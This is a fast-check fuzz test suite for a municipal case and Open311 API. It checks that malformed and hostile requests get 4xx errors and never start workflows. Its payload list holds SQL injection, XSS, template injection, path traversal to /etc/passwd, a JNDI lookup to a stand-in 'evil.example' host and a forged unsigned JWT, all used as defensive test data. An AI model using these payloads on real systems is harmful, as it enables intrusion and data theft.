/**
 * Bad input, property-based (issue 9, item 2): fast-check sends thousands of malformed, oversized,
 * wrongly typed, unicode-heavy and injection-shaped bodies, query strings, path parameters and
 * headers to every route of the real stack. Whatever arrives: a 4xx problem+json (Open311: the
 * spec's errors document), never a 5xx, never a crash, and never a started workflow.
 *
 * Every generated request is invalid by construction — each carries at least one defect the API
 * must refuse (an unknown field, a wrongly typed or over-long value, a missing field, a body that
 * is not a JSON object or too large, a credential that cannot verify) — while the rest of it is
 * free to be as hostile as the generators make it.
 */
import fc from 'fast-check';
import { MAX_DESCRIPTION_LENGTH } from '../../src/api/schemas/cases';
import { MAX_NOTE_LENGTH } from '../../src/domain/case-rules';
import { demoConfig } from '../helpers/fixtures';
import { startStack, waitFor, type Stack } from '../helpers/stack';

let stack: Stack;
/** Requests sent by the properties, reported at the end so the run can be judged by its size. */
let sent = 0;
let workflowsBefore = 0;
let shared: { caseId: string; mediationId: string; obligationId: string };

/** Runs per property; 16 properties × this is the size of the run. */
const RUNS = 250;

const asAdmin = () => ({ authorization: `Bearer ${stack.tokenFor('liu-guoqing')}` });
const asHotline = () => ({ 'x-api-key': stack.apiKeys['hotline-12345']! });

// ── What hostile input looks like ──────────────────────────────────────────────────────────────

/** Strings attackers and broken clients send: injections, traversal, templates, odd unicode. */
const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE cases; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '__proto__',
  'constructor',
  '{"$where":"sleep(1000)"}',
  'WorkflowId = "x" OR WorkflowType != ""',
  '\u202eevil\u202c',
  '\ud800',
  '\udfff\ud800',
  'a\u0000b',
  '\u0007\u001b[31m',
  '𠜎𠜱𠝹𠱓 ☃ 🀄️ 👨‍👩‍👧‍👦',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̯̬',
  '\ufeff\u200b\u200d',
  'null',
  'NaN',
  '-0',
  '1e400',
  '9'.repeat(400),
];

const hostileString = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 80 }),
  fc.string({ maxLength: 40 }),
);

/** Any JSON value, unicode-heavy strings included, a few levels deep. */
const junkJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.double(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileString, tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** A value whose JSON type is not `type`: a field given one of these can never be valid. */
function wrongTypeFor(type: FieldType): fc.Arbitrary<unknown> {
  const byType: Record<FieldType, fc.Arbitrary<unknown>> = {
    string: hostileString,
    number: fc.oneof(fc.double({ noNaN: true }), fc.integer()),
    boolean: fc.boolean(),
    object: fc.dictionary(hostileString, junkJson, { maxKeys: 3 }),
    array: fc.array(junkJson, { maxLength: 3 }),
  };
  const others = (Object.keys(byType) as FieldType[]).filter((other) => other !== type).map((other) => byType[other]);
  return fc.oneof(fc.constant(null), ...others);
}

type FieldType = 'string' | 'number' | 'boolean' | 'object' | 'array';

/** A body route: a full valid body, the type of each of its fields, and the limits of its strings. */
interface BodyRoute {
  name: string;
  method: string;
  path: () => string;
  headers: () => Record<string, string>;
  valid: () => Record<string, unknown>;
  types: Record<string, FieldType>;
  /** Longest accepted length of string fields that have one. */
  maxLengths: Record<string, number>;
  /** Fields that may not be left out. */
  required: string[];
}

const BODY_ROUTES: BodyRoute[] = [
  {
    name: 'POST /api/v1/cases',
    method: 'POST',
    path: () => '/api/v1/cases',
    headers: asHotline,
    valid: () => ({
      category: 'road_repair',
      priority: 'normal',
      title: '路灯',
      description: '三堂村一组路灯不亮',
      gridId: 'santang-1',
      location: { lat: 39.52, lng: 121.44 },
      address: '三堂村一组5号楼',
      reporter: { name: '张三', phone: '13812345678', email: 'zhang@example.org' },
      lang: 'zh-CN',
    }),
    types: {
      category: 'string',
      priority: 'string',
      title: 'string',
      description: 'string',
      gridId: 'string',
      location: 'object',
      address: 'string',
      reporter: 'object',
      lang: 'string',
    },
    maxLengths: { title: 200, description: MAX_DESCRIPTION_LENGTH, address: 300 },
    required: ['category', 'description'],
  },
  {
    name: 'POST /api/v1/cases/:id/actions',
    method: 'POST',
    path: () => `/api/v1/cases/${shared.caseId}/actions`,
    headers: asAdmin,
    valid: () => ({ type: 'move_deadline', dueAt: '2030-01-01T08:00:00+08:00', reason: '等待配件' }),
    types: { type: 'string', dueAt: 'string', reason: 'string' },
    maxLengths: { reason: MAX_NOTE_LENGTH },
    required: ['type', 'dueAt', 'reason'],
  },
  {
    name: 'POST /api/v1/cases/:id/feedback',
    method: 'POST',
    path: () => `/api/v1/cases/${shared.caseId}/feedback`,
    headers: asHotline,
    valid: () => ({ satisfied: true, rating: 4, comment: '满意' }),
    types: { satisfied: 'boolean', rating: 'number', comment: 'string' },
    maxLengths: { comment: MAX_NOTE_LENGTH },
    required: ['satisfied'],
  },
  {
    name: 'POST /api/v1/mediations/:id/actions',
    method: 'POST',
    path: () => `/api/v1/mediations/${shared.mediationId}/actions`,
    headers: asAdmin,
    valid: () => ({ type: 'consent', partyId: 'p1', given: true, note: '同意调解' }),
    types: { type: 'string', partyId: 'string', given: 'boolean', note: 'string' },
    maxLengths: { note: MAX_NOTE_LENGTH },
    required: ['type', 'partyId', 'given'],
  },
  {
    name: 'POST /api/v1/obligations',
    method: 'POST',
    path: () => '/api/v1/obligations',
    headers: asAdmin,
    valid: () => ({ obligeeId: 'sui-lei', unitId: 'santang-1', period: 'P1M', times: 2 }),
    types: { obligeeId: 'string', unitId: 'string', period: 'string', times: 'number' },
    maxLengths: {},
    required: ['obligeeId', 'unitId', 'period'],
  },
  {
    name: 'POST /api/v1/obligations/:id/contacts',
    method: 'POST',
    path: () => `/api/v1/obligations/${shared.obligationId}/contacts`,
    headers: asAdmin,
    valid: () => ({ at: new Date().toISOString(), channel: 'phone', note: '电话联系' }),
    types: { at: 'string', channel: 'string', note: 'string' },
    maxLengths: { note: 2000 },
    required: ['at', 'channel'],
  },
  {
    name: 'PATCH /api/v1/obligations/:id',
    method: 'PATCH',
    path: () => `/api/v1/obligations/${shared.obligationId}`,
    headers: asAdmin,
    valid: () => ({ obligeeId: 'chi-yong', reason: '岗位调整' }),
    types: { obligeeId: 'string', reason: 'string' },
    maxLengths: { reason: 500 },
    required: ['obligeeId'],
  },
];

/** One defect that makes a body invalid, applied to a copy of the valid body. */
type Defect = (body: Record<string, unknown>) => unknown;

function defects(route: BodyRoute): fc.Arbitrary<Defect> {
  const fields = Object.keys(route.types);
  const unknownField = fc
    .tuple(fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'admin', 'role', 'assigneeId', '$where', 'status'), hostileString), junkJson)
    .filter(([key]) => !fields.includes(key))
    .map(([key, value]): Defect => (body) => {
      // defineProperty, so even "__proto__" becomes an own key that JSON.stringify sends.
      Object.defineProperty(body, key, { value, enumerable: true, configurable: true, writable: true });
      return body;
    });
  const wrongType = fc
    .constantFrom(...fields)
    .chain((field) => wrongTypeFor(route.types[field]!).map((value): Defect => (body) => ({ ...body, [field]: value })));
  const missing = fc.constantFrom(...route.required).map((field): Defect => (body) => {
    const copy = { ...body };
    delete copy[field];
    return copy;
  });
  const limited = Object.entries(route.maxLengths);
  const tooLong =
    limited.length === 0
      ? []
      : [
          fc
            .tuple(fc.constantFrom(...limited), fc.integer({ min: 1, max: 500 }), fc.constantFrom('长', 'a', '👨‍👩‍👧', ' '))
            .map(([[field, max], over, unit]): Defect => (body) => ({ ...body, [field]: unit.repeat(max + over) })),
        ];
  const notAnObject = fc.oneof(fc.array(junkJson, { maxLength: 3 }), hostileString, fc.double(), fc.constant(null), fc.boolean()).map(
    (value): Defect =>
      () =>
        value,
  );
  return fc.oneof(unknownField, wrongType, missing, ...tooLong, notAnObject);
}

/** Hostile strings poured into the valid body's string fields (which alone might be acceptable). */
function hostileFill(route: BodyRoute): fc.Arbitrary<Record<string, string>> {
  const strings = Object.entries(route.types)
    .filter(([, type]) => type === 'string')
    .map(([field]) => field);
  return fc.dictionary(fc.constantFrom(...strings), hostileString, { maxKeys: strings.length });
}

// ── Sending and judging ────────────────────────────────────────────────────────────────────────

interface Answer {
  status: number;
  contentType: string;
  text: string;
}

async function send(method: string, path: string, init: { headers?: Record<string, string>; body?: string | URLSearchParams } = {}): Promise<Answer> {
  sent++;
  const response = await fetch(`${stack.baseUrl}${path}`, { method, headers: init.headers, body: init.body });
  return { status: response.status, contentType: response.headers.get('content-type') ?? '', text: await response.text() };
}

/** A 4xx problem+json whose body agrees with the status line. */
function expectProblem(answer: Answer, context: unknown): void {
  const judged = { context, status: answer.status, contentType: answer.contentType };
  expect(answer.status >= 400 && answer.status < 500 ? judged : { ...judged, text: answer.text.slice(0, 500) }).toEqual({
    context,
    status: expect.any(Number),
    contentType: expect.stringContaining('application/problem+json'),
  });
  expect(answer.status).toBeGreaterThanOrEqual(400);
  expect(answer.status).toBeLessThan(500);
  const problem = JSON.parse(answer.text) as { type: unknown; title: unknown; status: unknown; detail: unknown };
  expect(problem.status).toBe(answer.status);
  expect(typeof problem.type).toBe('string');
  expect(typeof problem.title).toBe('string');
}

/** A 4xx GeoReport v2 errors document (JSON) whose codes agree with the status line. */
function expectOpen311Error(answer: Answer, context: unknown): void {
  expect({
    context,
    status: answer.status >= 400 && answer.status < 500 ? '4xx' : answer.status,
    text: answer.status < 500 ? '' : answer.text.slice(0, 500),
  }).toEqual({ context, status: '4xx', text: '' });
  const errors = JSON.parse(answer.text) as { code: number; description: string }[];
  expect(Array.isArray(errors)).toBe(true);
  expect(errors.length).toBeGreaterThan(0);
  for (const error of errors) expect(error.code).toBe(answer.status);
}

const json = (value: unknown) => JSON.stringify(value);
const JSON_TYPE = { 'content-type': 'application/json' };

// ── The properties ─────────────────────────────────────────────────────────────────────────────

beforeAll(async () => {
  // One client address sends everything: the abuse limits would answer 429 long before the end.
  stack = await startStack({ config: { ...demoConfig, rateLimits: { intake: { window: 'PT1M', perKey: 1_000_000, perIp: 1_000_000 } } } });
  const post = async (path: string, body: unknown, headers: Record<string, string>) => {
    const response = await fetch(`${stack.baseUrl}${path}`, { method: 'POST', headers: { ...JSON_TYPE, ...headers }, body: json(body) });
    expect(response.status).toBe(201);
    return (await response.json()) as { id: string };
  };
  const subject = await post('/api/v1/cases', { category: 'road_repair', description: '模糊测试的对象', gridId: 'santang-1' }, asHotline());
  const dispute = await post(
    '/api/v1/cases',
    {
      category: 'neighbour_dispute',
      description: '模糊测试的纠纷',
      gridId: 'santang-1',
      parties: [
        { name: '甲', role: 'applicant' },
        { name: '乙', role: 'respondent' },
      ],
    },
    asHotline(),
  );
  const obligation = await post('/api/v1/obligations', { obligeeId: 'sui-lei', unitId: 'santang-1', period: 'P7D' }, asAdmin());
  shared = { caseId: subject.id, mediationId: `m-${dispute.id.slice(2)}`, obligationId: obligation.id };
  workflowsBefore = await waitFor(async () => {
    // The subject case, the dispute and its mediation (a child, started by the worker), the obligation.
    const { count } = await stack.client.workflow.count();
    return count >= 4 ? count : undefined;
  });
});

afterAll(async () => {
  await stack?.stop();
});

describe('malformed bodies', () => {
  test.each(BODY_ROUTES.map((route) => [route.name, route] as const))('%s: every defective body is a 4xx problem', async (_name, route) => {
    await fc.assert(
      fc.asyncProperty(hostileFill(route), defects(route), fc.constantFrom('en', 'zh-CN', '*', 'xx;q=abc', ''), async (fill, defect, lang) => {
        const body = defect({ ...route.valid(), ...fill });
        const answer = await send(route.method, route.path(), { headers: { ...JSON_TYPE, ...route.headers(), 'accept-language': lang }, body: json(body) });
        expectProblem(answer, { route: route.name, body: json(body).slice(0, 300) });
      }),
      { numRuns: RUNS },
    );
  });

  test('bodies that are not JSON, too large, too deep or of the wrong media type', async () => {
    const route = fc.constantFrom(...BODY_ROUTES);
    const raw = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }).map((text) => ({ contentType: 'application/json', body: `{${text}` })),
      fc
        .string({ unit: 'binary', maxLength: 200 })
        .filter((text) => !isJsonObject(text))
        .map((text) => ({ contentType: 'application/json', body: text })),
      fc.integer({ min: 65, max: 200 }).map((kb) => ({ contentType: 'application/json', body: json({ description: '长'.repeat(kb * 400) }) })),
      fc.integer({ min: 1_000, max: 20_000 }).map((depth) => ({ contentType: 'application/json', body: `${'['.repeat(depth)}${']'.repeat(depth)}` })),
      fc.integer({ min: 100, max: 5_000 }).map((depth) => ({ contentType: 'application/json', body: `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}` })),
      fc
        .constantFrom(
          'application/json; charset=utf-16',
          'application/json; charset=latin-9',
          'text/plain',
          'application/xml',
          'multipart/form-data; boundary=x',
          '',
        )
        .map((contentType) => ({
          contentType,
          body: json({ category: 'road_repair', description: '媒体类型不对', gridId: 'santang-1' }),
        })),
    );
    await fc.assert(
      fc.asyncProperty(route, raw, async (target, { contentType, body }) => {
        const headers: Record<string, string> = { ...target.headers() };
        if (contentType) headers['content-type'] = contentType;
        const answer = await send(target.method, target.path(), { headers, body });
        expectProblem(answer, { route: target.name, contentType, body: body.slice(0, 200) });
      }),
      { numRuns: RUNS },
    );
  });
});

/** True when `text` parses to a JSON object (the one kind of raw body that could be acceptable). */
function isJsonObject(text: string): boolean {
  try {
    const value: unknown = JSON.parse(text);
    return typeof value === 'object' && value !== null && !Array.isArray(value);
  } catch {
    return false;
  }
}

describe('malformed query strings', () => {
  const LISTS: { path: string; params: string[] }[] = [
    { path: '/api/v1/cases', params: ['unit', 'status', 'level', 'overdue', 'assignee', 'pageSize'] },
    { path: '/api/v1/supervision/overdue', params: ['unit', 'limit'] },
    { path: '/api/v1/supervision/summary', params: ['unit', 'withinHours'] },
    { path: '/api/v1/obligations', params: ['unit', 'status', 'pageSize'] },
    { path: '/api/v1/obligations/compliance', params: ['unit'] },
    { path: '/api/v1/reports/cases', params: ['unit', 'from', 'to', 'bucket'] },
    { path: '/api/v1/reports/mediations', params: ['unit', 'from', 'to', 'bucket'] },
    { path: '/api/v1/reports/obligations', params: ['unit', 'from', 'to', 'bucket'] },
  ];

  test('a listing asked with an unknown, repeated or ill-typed parameter is a 4xx problem', async () => {
    const list = fc.constantFrom(...LISTS);
    const query = list.chain((target) =>
      fc.record({
        target: fc.constant(target),
        known: fc.dictionary(fc.constantFrom(...target.params), hostileString, { maxKeys: 3 }),
        defect: fc.oneof(
          // An argument the route does not know.
          fc
            .tuple(
              hostileString.filter((key) => key !== '' && !target.params.includes(key)),
              hostileString,
            )
            .map(([key, value]) => [[key, value]]),
          // A known argument twice: the simple parser makes it a list, which no parameter accepts.
          fc.tuple(fc.constantFrom(...target.params), hostileString, hostileString).map(([key, a, b]) => [
            [key, a],
            [key, b],
          ]),
          // Numbers that are not numbers in range, and units that are not unit ids.
          fc.constantFrom<[string, string][][]>(
            [['unit', '../changxing']],
            [['unit', 'SANTANG']],
            [['unit', "santang' OR '1'='1"]],
            [['status', 'assigned;DROP']],
          ),
        ),
      }),
    );
    await fc.assert(
      fc.asyncProperty(query, async ({ target, known, defect }) => {
        const params = new URLSearchParams(Object.entries(known).filter(([key]) => !defect.some(([name]) => name === key)));
        for (const [key, value] of defect) params.append(key, value);
        const path = `${target.path}?${params.toString()}`;
        const answer = await send('GET', path, { headers: asAdmin() });
        expectProblem(answer, { path });
      }),
      { numRuns: RUNS },
    );
  });

  test('Open311 listings with hostile arguments never fail on our side', async () => {
    const args = fc.dictionary(
      fc.oneof(fc.constantFrom('service_request_id', 'service_code', 'status', 'start_date', 'end_date', 'jurisdiction_id', 'api_key'), hostileString),
      fc.oneof(
        hostileString,
        fc.array(hostileString, { maxLength: 3 }).map((items) => items.join(',')),
      ),
      { maxKeys: 5 },
    );
    await fc.assert(
      fc.asyncProperty(args, fc.constantFrom('json', 'xml'), async (query, format) => {
        const path = `/open311/v2/requests.${format}?${new URLSearchParams(query).toString()}`;
        const answer = await send('GET', path);
        // Unknown arguments are the spec's to ignore, so a 200 is a fine answer; a 5xx never is.
        expect({ path, status: answer.status < 500 ? 'not 5xx' : answer.status, text: answer.status < 500 ? '' : answer.text.slice(0, 300) }).toEqual({
          path,
          status: 'not 5xx',
          text: '',
        });
      }),
      { numRuns: RUNS },
    );
  });
});

/** A surrogate without its pair: JSON carries it, a URL cannot (encodeURIComponent throws). */
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

describe('malformed path parameters', () => {
  const pathSegment = fc.oneof(
    hostileString.filter((text) => text !== '' && text !== '.' && text !== '..').map((text) => encodeURIComponent(text.replace(LONE_SURROGATE, '\ufffd'))),
    // Escapes that do not decode.
    fc.constantFrom('%', '%zz', '%E0%A4%A', '%C0%AF', '%00', '%ff%fe', 'c-%ZZ'),
  );

  test('ids that name nothing: a 4xx problem on every route that takes one', async () => {
    const routes = fc.constantFrom(
      ['GET', '/api/v1/cases/:id'],
      ['POST', '/api/v1/cases/:id/actions'],
      ['POST', '/api/v1/cases/:id/feedback'],
      ['GET', '/api/v1/mediations/:id'],
      ['POST', '/api/v1/mediations/:id/actions'],
      ['GET', '/api/v1/obligations/:id'],
      ['POST', '/api/v1/obligations/:id/contacts'],
      ['PATCH', '/api/v1/obligations/:id'],
      ['DELETE', '/api/v1/obligations/:id'],
    );
    await fc.assert(
      fc.asyncProperty(routes, pathSegment, async ([method, template], id) => {
        const path = template.replace(':id', id);
        const body = method === 'GET' || method === 'DELETE' ? undefined : json({ type: 'note', note: '路径模糊测试', satisfied: true });
        const answer = await send(method, path, { headers: { ...JSON_TYPE, ...asAdmin() }, body });
        expectProblem(answer, { method, path });
      }),
      { numRuns: RUNS },
    );
  });

  test('Open311 resources that do not exist: a 4xx errors document', async () => {
    const templates = fc.constantFrom('/open311/v2/requests/:id.json', '/open311/v2/services/:id.json', '/open311/v2/tokens/:id.json', '/open311/v2/:id.json');
    await fc.assert(
      fc.asyncProperty(
        templates,
        pathSegment.filter((segment) => !/^(discovery|services|requests)$/.test(segment)),
        async (template, id) => {
          const path = template.replace(':id', id);
          expectOpen311Error(await send('GET', path), { path });
        },
      ),
      { numRuns: RUNS },
    );
  });
});

describe('malformed and hostile headers', () => {
  /** Header values fetch can carry: visible Latin-1, no control characters, trimmed. */
  const headerValue = fc
    .oneof(
      fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((code) => String.fromCharCode(code)), maxLength: 300 }),
      fc.string({ unit: fc.integer({ min: 0xa0, max: 0xff }).map((code) => String.fromCharCode(code)), maxLength: 50 }),
      fc.constantFrom(
        'Bearer',
        'Bearer ',
        'Basic YWRtaW46YWRtaW4=',
        'Bearer a.b.c',
        'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJsaXUtZ3VvcWluZyJ9.',
        `Bearer ${'x'.repeat(8_000)}`,
      ),
    )
    .map((value) => value.trim());

  const requests = fc.constantFrom(
    ['POST', '/api/v1/cases', json({ category: 'road_repair', description: '头部模糊测试', gridId: 'santang-1' })],
    ['GET', '/api/v1/cases', undefined],
    ['GET', '/api/v1/supervision/summary', undefined],
    ['POST', '/api/v1/obligations', json({ obligeeId: 'sui-lei', unitId: 'santang-1', period: 'P3M' })],
  );

  test('an Authorization or X-API-Key that cannot verify is a 401 problem, whatever rides along', async () => {
    const credential = fc.oneof(
      headerValue.map((value) => ({ authorization: value })),
      headerValue.filter((value) => value !== '').map((value) => ({ 'x-api-key': value })),
      fc.tuple(headerValue, headerValue).map(([authorization, key]) => ({ authorization, 'x-api-key': key })),
    );
    const extras = fc.record(
      { 'accept-language': headerValue, 'idempotency-key': headerValue, 'x-case-token': headerValue, 'x-forwarded-for': headerValue, accept: headerValue },
      { requiredKeys: [] },
    );
    await fc.assert(
      fc.asyncProperty(requests, credential, extras, async ([method, path, body], credentials, more) => {
        const headers = { ...more, ...credentials, ...JSON_TYPE };
        const answer = await send(method, path, { headers, body });
        // Headers beyond Node's 16 KB limit are refused by its HTTP parser (431, no body) before
        // the app sees them: still a refusal, but not ours to dress as problem+json.
        if (answer.status === 431) return;
        expectProblem(answer, { method, path, headers: JSON.stringify(headers).slice(0, 300) });
        expect(answer.status).toBe(401);
      }),
      { numRuns: RUNS },
    );
  });

  test("a resident case token that is not the case's is refused, and an Idempotency-Key that is not printable ASCII is a 400", async () => {
    const token = headerValue.filter((value) => value !== '');
    const badKey = fc.oneof(
      fc.string({ unit: fc.integer({ min: 0xa0, max: 0xff }).map((code) => String.fromCharCode(code)), minLength: 1, maxLength: 20 }),
      fc.constantFrom('has space', 'x'.repeat(256)),
    );
    await fc.assert(
      fc.asyncProperty(token, badKey, async (caseToken, idempotencyKey) => {
        const read = await send('GET', `/api/v1/cases/${shared.caseId}`, { headers: { 'x-case-token': caseToken } });
        expectProblem(read, { caseToken });
        expect(read.status).toBe(403);
        const submit = await send('POST', '/api/v1/cases', {
          headers: { ...JSON_TYPE, ...asHotline(), 'idempotency-key': idempotencyKey },
          body: json({ category: 'road_repair', description: '幂等键不对', gridId: 'santang-1' }),
        });
        expectProblem(submit, { idempotencyKey });
        expect(submit.status).toBe(400);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('Open311 submissions', () => {
  const validForm = () => ({
    api_key: stack.apiKeys['hotline-12345']!,
    service_code: 'road_repair',
    address_string: '三堂村一组5号楼',
    description: '路面坑洼',
    'attribute[hazard]': 'pothole',
  });
  /** One argument the spec's door must refuse (400/403/404). */
  const defect = fc.oneof(
    fc.constantFrom<Record<string, string>>(
      { api_key: '' },
      { api_key: 'not-a-key' },
      { service_code: 'no_such_service' },
      { service_code: '' },
      { lat: 'north', long: '121.4' },
      { lat: '91', long: '121.4' },
      { long: '-181', lat: '39.5' },
      { email: 'not an address' },
      { phone: '12345' },
      { media_url: 'javascript:alert(1)' },
      { media_url: 'ftp://example.org/a.jpg' },
      { 'attribute[hazard]': 'meteor' },
      { 'attribute[hazard]': '' },
      { address_string: '火星基地一号' },
      { description: '<script>alert(1)</script>' },
    ),
    hostileString.map((text): Record<string, string> => ({ description: `${text}${'长'.repeat(MAX_DESCRIPTION_LENGTH + 1)}` })),
    hostileString.map((text): Record<string, string> => ({ first_name: `${text}<b>`, description: `${text}<iframe src=x>` })),
    hostileString.map((text): Record<string, string> => ({ service_code: `${text}-not-a-service` })),
  );
  const fill = fc.dictionary(
    fc.constantFrom('description', 'address_string', 'first_name', 'last_name', 'account_id', 'device_id', 'jurisdiction_id'),
    hostileString,
    { maxKeys: 4 },
  );

  test('form-encoded and JSON submissions with one bad argument: a 4xx errors document, nothing started', async () => {
    await fc.assert(
      fc.asyncProperty(fill, defect, fc.boolean(), async (hostile, bad, asJson) => {
        const args = { ...validForm(), ...hostile, ...bad };
        const init = asJson ? { headers: JSON_TYPE, body: json(args) } : { body: new URLSearchParams(args) };
        const answer = await send('POST', '/open311/v2/requests.json', init);
        expectOpen311Error(answer, { args: json(args).slice(0, 300) });
      }),
      { numRuns: RUNS },
    );
  });
});

describe('afterwards', () => {
  test('nothing the fuzzing sent started a workflow, and the API still answers', async () => {
    expect((await send('GET', '/healthz')).status).toBe(200);
    // Visibility lags: a sentinel case started now shows when the listing has caught up.
    const sentinel = await fetch(`${stack.baseUrl}/api/v1/cases`, {
      method: 'POST',
      headers: { ...JSON_TYPE, ...asHotline() },
      body: json({ category: 'road_repair', description: '哨兵', gridId: 'santang-1' }),
    });
    expect(sentinel.status).toBe(201);
    const sentinelId = ((await sentinel.json()) as { id: string }).id;
    await waitFor(async () => {
      const listed = await stack.client.workflow.count(`WorkflowId = '${sentinelId}'`);
      return listed.count === 1 ? true : undefined;
    });
    const { count } = await stack.client.workflow.count();
    expect(count).toBe(workflowsBefore + 1);
    process.stdout.write(`fuzz-http: ${sent} hostile requests sent\n`);
  });
});
